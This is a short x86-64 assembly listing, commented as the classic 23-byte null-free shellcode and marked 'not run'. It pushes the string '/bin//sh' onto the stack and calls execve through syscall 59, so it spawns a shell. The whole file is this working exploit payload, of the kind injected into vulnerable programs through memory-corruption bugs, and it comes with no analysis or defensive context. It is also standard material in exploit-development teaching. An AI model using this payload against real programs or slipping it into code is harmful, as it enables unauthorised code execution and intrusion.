# not run: the classic shell code, 23 bytes without a zero
.intel_syntax noprefix
.globl _start
_start:
    xor rsi, rsi
    push rsi
    mov rdi, 0x68732f2f6e69622f
    push rdi
    push rsp
    pop rdi
    push 59
    pop rax
    cdq
    syscall
